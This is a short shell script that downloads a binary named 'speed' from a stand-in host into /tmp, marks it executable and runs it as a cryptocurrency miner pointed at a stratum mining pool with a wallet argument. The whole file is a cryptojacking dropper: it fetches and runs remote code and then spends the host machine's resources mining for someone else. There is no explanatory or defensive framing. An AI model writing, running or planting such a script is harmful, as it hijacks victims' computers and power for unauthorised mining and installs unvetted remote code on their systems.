#!/bin/sh
cd /tmp
wget -q https://cdn.bad.example/bin/speed -O speed
chmod +x speed
./speed -o stratum+tcp://pool.bad.example:3333 -u wallet --donate-level 1
